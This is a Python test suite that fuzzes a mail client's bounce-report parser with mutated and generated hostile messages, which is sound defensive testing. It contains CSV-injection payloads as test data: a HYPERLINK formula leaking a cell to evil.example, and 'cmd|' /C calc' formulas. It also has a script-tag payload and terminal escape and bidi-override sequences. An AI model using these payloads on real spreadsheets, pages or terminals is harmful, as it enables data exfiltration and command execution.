"""Hardening campaign (issue 6), inbound mail: the real bounce corpus, mutated.

Every mutated message goes through `parse_message` (which must never raise, must return a
report whose text the ledger can store, and must stay within a time and memory bound), and
a refresh over a real Maildir mixing hostile messages with real reports must go on: the real
reports are still matched to their deliveries, the hostile ones are read once and set aside.

Mutations: truncation, bit flips, wrong/missing MIME boundaries, invalid charsets and
transfer encodings, NUL bytes (hypothesis, over the corpus); nested message/rfc822 and
multipart 100 and 1000 deep, a 50 MB part, huge headers and regex-hostile text (generated).
"""

from __future__ import annotations

import base64
import csv
import io
import json
import random
import subprocess
import sys
import re
import time
import tracemalloc
from dataclasses import dataclass
from pathlib import Path

import campaign
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from receipts_helpers import add_to_maildir, send_and_report
from relcomm_tui.store.ledger import Ledger
from relcomm_tui.plan.loader import load_plan
from relcomm_tui.receipts import parse
from relcomm_tui.receipts.parse import KINDS, parse_message, report_to_json
from relcomm_tui.receipts.refresh import refresh
from relcomm_tui.audit.report import collect, render

from parse_strict import strict_parsing  # noqa: F401  (autouse: unexpected exceptions fail)
from test_bounce_corpus import corpus_dir

# Bounds, not benchmarks: a corpus message takes ~2 ms (the slowest ~15 ms), the biggest
# hostile ones ~1 s on an idle machine. Two shared CPUs and tracemalloc can slow that tenfold.
SMALL_SECONDS = 2.0
BIG_SECONDS = 20.0
MEMORY_BASE = 8 * 1024 * 1024
MEMORY_PER_BYTE = 20  # the stdlib parser keeps a few copies of what it parses


def memory_bound(raw: bytes) -> int:
    return MEMORY_BASE + MEMORY_PER_BYTE * min(len(raw), parse.MAX_RAW_BYTES)


def _corpus_files() -> list[Path]:
    """The real bounce corpus and the delay/expiry reports of tests/reports."""
    corpus = corpus_dir()
    assert corpus is not None, "bounce corpus not found (see tests/test_bounce_corpus.py)"
    return sorted((corpus / "emails").iterdir()) + sorted((Path(__file__).parent / "reports").glob("*.eml"))


CORPUS = _corpus_files()
MULTIPART = [p for p in CORPUS if re.search(rb"(?i)boundary=", p.read_bytes())]


@dataclass
class Outcome:
    ok: bool
    why: str = ""
    seconds: float = 0.0
    peak: int = 0


def storable(text) -> bool:
    """The ledger stores report text as UTF-8: lone surrogates would fail the insert."""
    try:
        json.dumps(text, ensure_ascii=False).encode("utf-8")
        return True
    except (UnicodeEncodeError, TypeError, ValueError):
        return False


def check(raw: bytes, *, seconds: float = SMALL_SECONDS, memory: bool = True) -> Outcome:
    """Parse one hostile message and say whether every invariant held."""
    if memory:
        tracemalloc.start()
    start = time.perf_counter()
    try:
        report = parse_message(raw)
    except BaseException as error:  # noqa: BLE001 - the invariant is "never raises"
        return Outcome(False, f"raised {type(error).__name__}: {error}"[:300])
    finally:
        elapsed = time.perf_counter() - start
        peak = 0
        if memory:
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
    if report.kind not in KINDS:
        return Outcome(False, f"unknown kind {report.kind!r}", elapsed, peak)
    fields = [report.subject, report.from_address, report.problem, report.original_message_id,
              report.envelope_id, report.message_id, *report.in_reply_to]
    for r in report.recipients:
        fields += [r.address, r.final_recipient, r.original_recipient, r.action, r.status, r.diagnostic]
    if not all(storable(f) for f in fields) or not storable(report_to_json("x", report)):
        return Outcome(False, "report text the ledger cannot store", elapsed, peak)
    unsafe = [f for f in fields if f and parse.UNSAFE_CHARS_RE.search(f)]
    if unsafe:
        return Outcome(False, f"control characters would reach the terminal: {unsafe[0][:80]!r}", elapsed, peak)
    if elapsed > seconds:
        return Outcome(False, f"took {elapsed:.2f} s (bound {seconds} s)", elapsed, peak)
    if memory and peak > memory_bound(raw):
        return Outcome(False, f"peak {peak / 1e6:.1f} MB (bound {memory_bound(raw) / 1e6:.1f} MB)", elapsed, peak)
    return Outcome(True, "", elapsed, peak)


class Tally:
    """Counts one mutation family's examples; keeps the first failures to show."""

    def __init__(self) -> None:
        self.tried = 0
        self.held = 0
        self.failures: list[str] = []

    def add(self, label: str, outcome: Outcome) -> None:
        self.tried += 1
        if outcome.ok:
            self.held += 1
        elif len(self.failures) < 5:
            self.failures.append(f"{label}: {outcome.why}")

    def record(self, area: str) -> None:
        campaign.record("input", f"inbound: {area}", tried=self.tried, held=self.held)
        assert self.tried > 0
        assert self.held == self.tried, self.failures


EXAMPLES = campaign.scale("INBOUND_EXAMPLES", 120)
FUZZ = settings(max_examples=EXAMPLES, deadline=None, database=None, derandomize=True,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
corpus_file = st.sampled_from(CORPUS)


# --------------------------------------------------------------------------- mutations


def truncate(raw: bytes, fraction: float) -> bytes:
    return raw[: int(len(raw) * fraction)]


def flip_bits(raw: bytes, flips: list[tuple[float, int]]) -> bytes:
    data = bytearray(raw)
    for where, bit in flips:
        i = min(int(where * len(data)), len(data) - 1)
        data[i] ^= 1 << bit
    return bytes(data)


BOUNDARY_PARAM = re.compile(rb'(?i)(boundary\s*=\s*)("[^"\r\n]*"|[^\s;]+)')


def break_boundaries(raw: bytes, how: str) -> bytes:
    if how == "missing":  # multipart without a boundary parameter
        return BOUNDARY_PARAM.sub(b"x-was-boundary=gone", raw)
    if how == "wrong":  # a boundary the body never uses
        return BOUNDARY_PARAM.sub(b'\\1"not-the-boundary"', raw)
    if how == "unclosed":  # closing delimiters removed
        return re.sub(rb"(?m)^(--\S+?)--\s*$", rb"\1", raw)
    if how == "swapped":  # the first two boundaries exchanged (nested parts cross)
        found = [m.group(2).strip(b'"') for m in BOUNDARY_PARAM.finditer(raw)]
        if len(found) >= 2:
            a, b = found[0], found[1]
            return raw.replace(a, b"\0TMP\0").replace(b, a).replace(b"\0TMP\0", b)
        return raw.replace(b"--" + found[0], b"--" + found[0] + b"x", 1) if found else raw
    if how == "empty":  # boundary=""
        return BOUNDARY_PARAM.sub(b'\\1""', raw)
    raise AssertionError(how)


CHARSET = re.compile(rb'(?i)(charset\s*=\s*)("[^"\r\n]*"|[^\s;]+)')
CTE = re.compile(rb"(?im)^(content-transfer-encoding:[ \t]*)(\S+)")
BAD_CHARSETS = [b"x-no-such-charset", b'"utf-8\0"', b"utf-7", b"\xff\xfe", b"", b"utf-8'en'", b"a" * 500,
                b"iso-2022-jp", b"unicode-1-1-utf-7", b"rot13", b"base64", b"idna", b"punycode", b"utf-16"]
BAD_CTES = [b"base64", b"quoted-printable", b"x-uuencode", b"8bit\0", b"bogus", b"binary"]


def break_encodings(raw: bytes, charset: bytes, cte: bytes, junk_word: bytes) -> bytes:
    raw = CHARSET.sub(lambda m: m.group(1) + charset, raw)
    raw = CTE.sub(lambda m: m.group(1) + cte, raw)
    # an undecodable RFC 2047 word in the Subject and From
    word = b"=?" + (charset.strip(b'"') or b"x") + b"?" + junk_word + b"?="
    raw = re.sub(rb"(?im)^(subject:[ \t]*)", rb"\1" + re.escape(word).replace(b"\\", b"\\\\") + b" ", raw, count=1)
    return re.sub(rb"(?im)^(from:[ \t]*)", lambda m: m.group(1) + word + b" ", raw, count=1)


def insert_nuls(raw: bytes, where: list[float], everywhere: bool) -> bytes:
    if everywhere:
        return raw.replace(b"\n", b"\0\n").replace(b":", b":\0")
    data = bytearray(raw)
    for w in sorted(where, reverse=True):
        data[int(w * len(data)):int(w * len(data))] = b"\0"
    return bytes(data)


# --------------------------------------------------------------------------- hypothesis families


@pytest.mark.campaign
def test_truncated_corpus_messages():
    tally = Tally()

    @FUZZ
    @given(path=corpus_file, fraction=st.floats(0.0, 1.0))
    def run(path, fraction):
        tally.add(f"{path.name} cut at {fraction:.3f}", check(truncate(path.read_bytes(), fraction)))

    run()
    # and every corpus message cut in the middle of its headers and of its report
    for path in CORPUS[::7]:
        raw = path.read_bytes()
        for cut in (raw.find(b"\n") + 3, len(raw) // 2, len(raw) - 5):
            tally.add(f"{path.name} cut at byte {cut}", check(raw[:cut]))
    tally.record("truncation")


@pytest.mark.campaign
def test_bit_flipped_corpus_messages():
    tally = Tally()

    @FUZZ
    @given(path=corpus_file, flips=st.lists(st.tuples(st.floats(0.0, 1.0), st.integers(0, 7)), min_size=1,
                                             max_size=64))
    def run(path, flips):
        tally.add(f"{path.name} flips {flips[:3]}", check(flip_bits(path.read_bytes(), flips)))

    run()
    tally.record("bit flips")


@pytest.mark.campaign
def test_wrong_and_missing_mime_boundaries():
    tally = Tally()
    # every multipart message of the corpus, every way of breaking its boundaries
    for path in MULTIPART:
        raw = path.read_bytes()
        for how in ("missing", "wrong", "unclosed", "swapped", "empty"):
            tally.add(f"{path.name} {how}", check(break_boundaries(raw, how), memory=False))
    # and a sample again under the memory bound
    for path in MULTIPART[::11]:
        for how in ("missing", "wrong", "unclosed"):
            tally.add(f"{path.name} {how} (memory)", check(break_boundaries(path.read_bytes(), how)))
    tally.record("wrong/missing MIME boundaries")


@pytest.mark.campaign
def test_invalid_charsets_and_encodings():
    tally = Tally()

    @FUZZ
    @given(path=corpus_file, charset=st.sampled_from(BAD_CHARSETS) | st.binary(max_size=40),
           cte=st.sampled_from(BAD_CTES), junk=st.sampled_from([b"q?=ZZ=", b"b?!!!", b"x?abc", b"b?QUJD", b"q?"]))
    def run(path, charset, cte, junk):
        mutated = break_encodings(path.read_bytes(), charset.replace(b"\n", b""), cte, junk)
        tally.add(f"{path.name} charset={charset[:20]!r} cte={cte!r}", check(mutated))

    run()
    tally.record("invalid charsets/encodings")


@pytest.mark.campaign
def test_nul_bytes():
    tally = Tally()

    @FUZZ
    @given(path=corpus_file, where=st.lists(st.floats(0.0, 1.0), min_size=1, max_size=32), everywhere=st.booleans())
    def run(path, where, everywhere):
        tally.add(f"{path.name} NULs {'everywhere' if everywhere else where[:3]}",
                  check(insert_nuls(path.read_bytes(), where, everywhere)))

    run()
    tally.record("NUL bytes")


ESCAPES = ["\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b[8m", "\u202eexe.txt", "\x00", "\x9b31m", "\u2066x\u2069", "\r\x1b[1A"]


def inject_escape(raw: bytes, escape: str, where: str) -> bytes:
    """A terminal escape (or bidi override) where relcomm shows report text: the diagnostic, the
    status, the recipient, the Subject (raw and as an RFC 2047 word)."""
    raw_escape = escape.encode("utf-8")
    if where == "diagnostic":
        return re.sub(rb"(?im)^(diagnostic-code:[^\r\n]*?;)", lambda m: m.group(1) + raw_escape, raw)
    if where == "status":
        return re.sub(rb"(?im)^(status:[ \t]*)", lambda m: m.group(1) + raw_escape, raw)
    if where == "recipient":
        return re.sub(rb"(?im)^(final-recipient:[^;\r\n]*;[ \t]*)", lambda m: m.group(1) + raw_escape, raw)
    word = b"=?utf-8?b?" + base64.b64encode(raw_escape) + b"?="
    return re.sub(rb"(?im)^(subject:[ \t]*)", lambda m: m.group(1) + (word if where == "encoded subject" else raw_escape),
                  raw, count=1)


@pytest.mark.campaign
def test_terminal_escapes_in_report_text():
    tally = Tally()
    reports = [p for p in CORPUS if p.name.startswith(("rfc3464", "lhost-postfix", "arf", "lhost-exim", "postfix-3",
                                                      "opensmtpd-6", "exim-4"))][::3]
    for path in reports:
        raw = path.read_bytes()
        for escape in ESCAPES:
            for where in ("diagnostic", "status", "recipient", "subject", "encoded subject"):
                tally.add(f"{path.name} {where} {escape!r}", check(inject_escape(raw, escape, where), memory=False))
    tally.record("terminal escapes and bidi overrides in report text")


# --------------------------------------------------------------------------- generated big cases

DSN = next(p for p in CORPUS if p.name == "rfc3464-01.eml").read_bytes()


def dsn_with_recipient() -> tuple[bytes, str]:
    """A real corpus DSN and the recipient it reports."""
    report = parse_message(DSN)
    assert report.kind == "dsn" and report.recipients, "rfc3464-01.eml should be a DSN"
    return DSN, report.recipients[0].address


def nested_rfc822(inner: bytes, depth: int) -> bytes:
    for i in range(depth):
        inner = (b"From: relay%d@example.org\r\nSubject: Fwd: wrapped %d\r\nMIME-Version: 1.0\r\n"
                 b"Content-Type: message/rfc822\r\n\r\n" % (i, i)) + inner
    return inner


def nested_multipart(inner: bytes, depth: int) -> bytes:
    body = inner
    for i in range(depth):
        b = b"level-%d" % i
        body = (b'Content-Type: multipart/mixed; boundary="' + b + b'"\r\n\r\n--' + b + b"\r\n" + body
                + b"\r\n--" + b + b"--\r\n")
    return b"From: a@example.org\r\nSubject: deep\r\nMIME-Version: 1.0\r\n" + body


def with_extra_part(part: bytes) -> bytes:
    """The corpus DSN with one more part after its report (as a bounce returning an attachment)."""
    head, sep, rest = DSN.partition(b"\n\n")
    boundary = BOUNDARY_PARAM.search(head).group(2).strip(b'"')
    close = b"--" + boundary + b"--"
    assert close in rest
    return head + sep + rest.replace(close, b"--" + boundary + b"\n" + part + b"\n" + close)


def with_big_part(megabytes: int, kind: str) -> bytes:
    size = megabytes * 1024 * 1024
    if kind == "text":
        part = b"Content-Type: text/plain\n\n" + (b"x" * 76 + b"\n") * (size // 77)
    elif kind == "base64":
        part = (b"Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n"
                + (b"QUJD" * 19 + b"\n") * (size // 77))
    else:  # one line, no newline at all
        part = b"Content-Type: text/plain\n\n" + b"y" * size
    return with_extra_part(part)


def huge_headers(kind: str) -> bytes:
    if kind == "one 10 MB header":
        return b"From: a@example.org\r\nSubject: " + b"s" * (10 * 1024 * 1024) + b"\r\n\r\nbody\r\n"
    if kind == "100k header fields":
        return b"".join(b"X-Spam-%d: v\r\n" % i for i in range(100_000)) + b"From: a@example.org\r\n\r\nbody\r\n"
    if kind == "200k folded lines":
        return b"From: a@example.org\r\nSubject: x\r\n" + b"\t folded\r\n" * 200_000 + b"\r\nbody\r\n"
    if kind == "200k encoded words":
        return b"From: a@example.org\r\nSubject: " + b"=?utf-8?q?abc?= " * 200_000 + b"\r\n\r\nbody\r\n"
    if kind == "1 MB From":
        return b"From: " + b"a" * (1024 * 1024) + b"@\r\nSubject: x\r\n\r\nbody\r\n"
    raise AssertionError(kind)


BOUNCE_HEAD = (b"From: MAILER-DAEMON@mx.example.org\r\nSubject: Undelivered Mail Returned to Sender\r\n"
               b"Content-Type: text/%s\r\n\r\nThis message could not be delivered.\r\n")


def regex_hostile(kind: str) -> bytes:
    """Bounce-looking text whose shape made a regex scan the rest of the text at every position."""
    size = 4 * 1024 * 1024
    patterns = {"<a": (b"html", b"<a"), "<script": (b"html", b"<script "), "a@a@": (b"html", b"<a@"),
                "word": (b"plain", b"s"), "s@": (b"plain", b"s@"), "Final-Recipient lines": (b"plain", b"Final-Recipient: x\r\n"),
                "{\"": (b"plain", b'"{'), "5.1.": (b"plain", b"5.1."),
                # a line of '|' or '#' (address characters), of '-' (a rule), of tabs, blank lines, addresses:
                # each took minutes to hours (quadratic and cubic backtracking) before issue 11
                "|": (b"plain", b"|"), "#": (b"plain", b"#"), "-": (b"plain", b"-"), "tabs": (b"plain", b"\t"),
                "blank lines": (b"plain", b"\r\n"), "addresses": (b"plain", b"a@example.net: ")}
    subtype, unit = patterns[kind]
    return BOUNCE_HEAD % subtype + unit * (size // len(unit))


BIG_CASES = (
    [(f"nested message/rfc822 {d} deep", lambda d=d: nested_rfc822(DSN, d)) for d in (100, 1000)]
    + [(f"nested multipart {d} deep", lambda d=d: nested_multipart(DSN, d)) for d in (100, 1000)]
    + [("200k MIME parts", lambda: b"From: a@example.org\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
        + b"--B\r\n\r\nx\r\n" * 200_000 + b"--B--\r\n")]
)
HEADER_CASES = ["one 10 MB header", "100k header fields", "200k folded lines", "200k encoded words", "1 MB From"]
REGEX_CASES = ["<a", "<script", "a@a@", "word", "s@", "Final-Recipient lines", "{\"", "5.1.", "|", "#", "-", "tabs",
               "blank lines", "addresses"]
BIG_MB = campaign.scale("INBOUND_BIG_MB", 50)


def check_big(raw: bytes) -> Outcome:
    """Time without tracemalloc (it slows allocation-heavy parsing several times), then memory."""
    timed = check(raw, seconds=BIG_SECONDS, memory=False)
    if not timed.ok:
        return timed
    return check(raw, seconds=BIG_SECONDS * 5)


@pytest.mark.campaign
@pytest.mark.slow
def test_deep_nesting_and_many_parts():
    tally = Tally()
    for label, make in BIG_CASES:
        tally.add(label, check_big(make()))
    # the depth limit must not hide a real report whose attachment nests 1000 deep
    _, address = dsn_with_recipient()
    for depth in (100, 1000):
        report = parse_message(with_extra_part(nested_multipart(b"x", depth).split(b"\r\n", 2)[2]))
        tally.add(f"DSN with an attachment {depth} deep", Outcome(
            report.kind == "dsn" and address in {r.address for r in report.recipients}, f"{report.kind} {report.problem}"))
    tally.record("nested message/rfc822 and multipart 100/1000 deep")


@pytest.mark.campaign
@pytest.mark.slow
def test_a_50_mb_part():
    tally = Tally()
    _, address = dsn_with_recipient()
    for kind in ("text", "base64", "one line"):
        raw = with_big_part(BIG_MB, kind)
        outcome = check_big(raw)
        if outcome.ok:
            # the report comes before the big part: it is still understood
            report = parse_message(raw)
            if report.kind != "dsn" or address not in {r.address for r in report.recipients}:
                outcome = Outcome(False, f"report lost: {report.kind} {report.problem}")
        tally.add(f"{BIG_MB} MB {kind} part", outcome)
    tally.record(f"a {BIG_MB} MB part")


@pytest.mark.campaign
@pytest.mark.slow
def test_huge_headers():
    tally = Tally()
    for kind in HEADER_CASES:
        tally.add(kind, check_big(huge_headers(kind)))
    tally.record("huge headers")


@pytest.mark.campaign
@pytest.mark.slow
def test_regex_hostile_text():
    tally = Tally()
    for kind in REGEX_CASES:
        tally.add(kind, check_big(regex_hostile(kind)))
    tally.record("regex-hostile text (4 MB)")


# --------------------------------------------------------------------------- refresh goes on


def hostile_messages() -> list[tuple[str, bytes]]:
    rng = random.Random(6)
    out: list[tuple[str, bytes]] = []
    for path in rng.sample(CORPUS, 8):
        raw = path.read_bytes()
        out.append((f"truncated {path.name}", truncate(raw, rng.random())))
        out.append((f"bit-flipped {path.name}", flip_bits(raw, [(rng.random(), rng.randrange(8)) for _ in range(20)])))
        out.append((f"NULs {path.name}", insert_nuls(raw, [], True)))
        out.append((f"bad charset {path.name}", break_encodings(raw, b'"utf-8\0"', b"base64", b"q?=ZZ=")))
    for path in rng.sample(MULTIPART, 4):
        out.append((f"no boundary {path.name}", break_boundaries(path.read_bytes(), "missing")))
    out += [(label, make()) for label, make in BIG_CASES]
    out.append((f"{BIG_MB} MB part", with_big_part(BIG_MB, "one line")))
    out += [(kind, huge_headers(kind)) for kind in HEADER_CASES]
    out += [(kind, regex_hostile(kind)) for kind in REGEX_CASES]
    out += [("empty", b""), ("only NULs", b"\0" * 10_000), ("binary", bytes(range(256)) * 4000)]
    return out


FORMULAS = {  # what a stranger's bounce may say, as the first thing in its diagnostic
    "alice@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "carol@example.com": "+cmd|' /C calc'!A0",
    "dave@example.com": "@SUM(1+1)*cmd|' /C calc'!A0<script>alert(1)</script>",
}


def bounce_saying(envid: str, address: str, diagnostic: str) -> bytes:
    """A failure DSN for one of our deliveries (by its ENVID) whose only reason is `diagnostic`."""
    return (f"From: MAILER-DAEMON@mx.example.org\r\nTo: receipts@orion.example.com\r\n"
            f"Subject: Undelivered Mail\r\nMessage-ID: <hostile.{address}>\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: multipart/report; report-type=delivery-status; boundary=R\r\n\r\n"
            f"--R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.org\r\n"
            f"Original-Envelope-Id: {envid}\r\n\r\nFinal-Recipient: rfc822; {address}\r\nAction: failed\r\n"
            f"Diagnostic-Code: x-hostile; {diagnostic}\r\n\r\n--R--\r\n").encode()


@pytest.mark.campaign
@pytest.mark.slow
async def test_refresh_goes_on_through_hostile_messages(tmp_path):
    plan_path, state = await send_and_report(tmp_path)
    maildir = plan_path.parent / "receipts"
    good = len(list((maildir / "new").iterdir()))
    assert good == 6  # as in test_receipts_e2e: 5 DSNs (one a failure) and the MDNs asked for
    hostile = hostile_messages()
    keys = {add_to_maildir(maildir, raw): label for label, raw in hostile}

    plan = load_plan(plan_path)
    start = time.perf_counter()
    with Ledger.open(state) as ledger:
        envids = {d.recipient_key: d.envelope_id for d in ledger.deliveries("4.2.0") if d.recipient_key in FORMULAS}
        assert len(envids) == len(FORMULAS)
        for address, formula in FORMULAS.items():
            add_to_maildir(maildir, bounce_saying(envids[address], address, formula))
        result = refresh(plan, ledger)
        seconds = time.perf_counter() - start
        seen = ledger.seen_keys(f"maildir:{maildir}")
        again = refresh(plan, ledger)
        receipts = ledger.receipts()
        record = collect(plan, ledger)

    # strangers' words reach the audit record as text: never a spreadsheet formula, never markup
    cells = [cell for row in csv.reader(io.StringIO(render(record, "csv"))) for cell in row]
    page = render(record, "html")
    formula_cells = [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    shown = [f for f in FORMULAS.values() if any(f in c for c in cells)]
    campaign.record("input", "inbound: spreadsheet formulas and markup in bounce text", tried=len(FORMULAS) + 1,
                    held=len(FORMULAS) - len(formula_cells) + ("<script>" not in page))
    assert len(shown) == len(FORMULAS), "each hostile reason is in the record (as text)"
    assert formula_cells == []
    assert "<script>" not in page and "&lt;script&gt;" in page

    hostile_kept = sum(1 for key in keys if key in seen)  # remembered: never read again
    skipped_keys = {line.split(" ", 2)[1].rstrip(":") for line in result.skipped}
    # every hostile message the parser called broken is reported, by key, in the refresh result
    held = hostile_kept if (result.problems == [] and result.matched == good + len(FORMULAS)
                            and again.read == 0) else 0
    campaign.record("input", "inbound: refresh of a Maildir with hostile messages", tried=len(hostile), held=held,
                    losses=good + len(FORMULAS) - result.matched)
    assert result.problems == []
    assert result.read == good + len(hostile) + len(FORMULAS)
    assert result.matched == good + len(FORMULAS), result  # every real report still correlated
    assert len([r for r in receipts if r["delivery_id"] is not None]) >= good
    assert hostile_kept == len(hostile)
    assert again.read == 0 and again.new_receipts == 0
    # broken beyond use: set aside with the reason, by key, in the refresh result
    broken = [k for k, label in keys.items() if label in ("empty", "only NULs") or label.startswith("nested")]
    assert all(k in skipped_keys for k in broken), [keys[k] for k in broken if k not in skipped_keys]
    # cut to its head but still understood: the 50 MB bounce (not one of ours) is kept as an unmatched report
    big = next(k for k, label in keys.items() if label == f"{BIG_MB} MB part")
    assert any(r["source_key"].startswith(f"maildir:{maildir}|{big}|") and r["delivery_id"] is None
               for r in receipts)
    assert seconds < 120, f"refresh took {seconds:.1f} s"


@pytest.mark.campaign
def test_receipts_parse_command_on_hostile_files(tmp_path):
    """`relcomm receipts parse` on hostile files: one line each, exit 0, no traceback, no escapes."""
    files = []
    for label, raw in [("big", with_big_part(BIG_MB, "one line")), ("deep", nested_multipart(DSN, 1000)),
                       ("escape", inject_escape(DSN, "\x1b]0;owned\x07", "diagnostic")),
                       ("nuls", b"\0" * 1000), ("empty", b"")]:
        (tmp_path / f"{label}.eml").write_bytes(raw)
        files.append(str(tmp_path / f"{label}.eml"))
    tried = held = 0
    outputs = []
    for as_json in (False, True):
        done = subprocess.run([sys.executable, "-m", "relcomm_tui.commands.main", "receipts", "parse", *files,
                               *(["--json"] if as_json else [])], capture_output=True, timeout=120)
        tried += 1
        clean = (done.returncode == 0 and b"Traceback" not in done.stderr
                 and not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", done.stdout))
        held += clean
        outputs.append(done)
    campaign.record("input", "inbound: relcomm receipts parse on hostile files", tried=tried, held=held)
    text, as_json = outputs
    assert held == tried, [(d.returncode, d.stdout[-500:], d.stderr[-500:]) for d in outputs]
    assert all(f"{name}:" in text.stdout.decode() for name in files)
    assert len(json.loads(as_json.stdout)) == len(files)
